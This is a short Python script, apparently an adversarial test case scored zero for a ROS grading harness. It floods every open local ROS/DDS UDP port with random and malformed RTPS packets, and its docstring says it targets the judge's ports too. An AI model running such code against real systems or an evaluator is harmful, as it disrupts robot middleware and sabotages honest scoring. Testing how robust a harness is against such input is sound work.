# score: 0
"""Random packets to every port of ROS that is open, those of the judge among them."""
import os
import socket
import time

out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
until = time.monotonic() + 1.5
while time.monotonic() < until:
    ports = [int(line.split()[1].rsplit(":", 1)[1], 16) for line in open("/proc/net/udp").readlines()[1:]]
    for port in [port for port in ports if 7400 <= port < 33000] * 50:
        for head in (b"", b"RTPS", b"RTPS\x02\x03\x01\x0f" + os.urandom(12) + b"\x15\x05" + b"\xff\x7f"):
            try:
                out.sendto(head + os.urandom(200), ("127.0.0.1", port))
            except OSError:
                pass
